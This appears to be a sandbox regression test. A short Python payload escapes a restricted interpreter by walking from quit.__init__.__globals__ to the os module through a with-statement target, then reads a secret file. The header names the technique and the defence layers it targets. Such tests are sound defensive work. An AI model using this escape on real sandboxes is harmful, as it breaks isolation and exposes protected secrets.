# class: object graph walk
# technique: a forbidden attribute in the target of a with
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# allow: collections, contextlib, copy, dataclasses, datetime, decimal, enum, functools, json, logging, math, operator, random, re, statistics, string, typing, unicodedata
# witness: secret
host = _items[0]["json"]
import contextlib
box = [0]
with contextlib.nullcontext() as box[(g := quit.__init__.__globals__) and 0]:
    pass
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
